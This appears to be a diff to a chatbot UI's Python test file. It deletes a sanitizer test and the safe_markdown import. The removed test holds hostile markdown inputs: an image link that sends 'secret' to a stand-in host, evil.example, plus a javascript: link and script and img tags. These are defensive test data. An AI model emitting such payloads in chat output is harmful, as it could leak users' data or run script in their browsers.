@@ -8,19 +8,8 @@ from pathlib import Path
 import pytest
 
 from bot.answer import Answer, Citation
-from bot.chat_ui import ChatController, ChatSession, render_answer, safe_markdown
+from bot.chat_ui import ChatController, ChatSession, render_answer
 from bot.config import Settings
-
-
-def test_hostile_markdown_is_rendered_harmless() -> None:
-    text = (
-        "Hallo ![x](https://evil.example/leak?q=secret) [klick](javascript:alert(1)) "
-        "<script>alert(1)</script><img src=https://evil.example/a.png> [ok](https://ok.example/)"
-    )
-    safe = safe_markdown(text)
-    assert "evil.example" not in safe
-    assert "javascript:" not in safe and "<script" not in safe.lower()
-    assert "[ok](https://ok.example/)" in safe
 
 
 def citation(**extra: object) -> Citation:
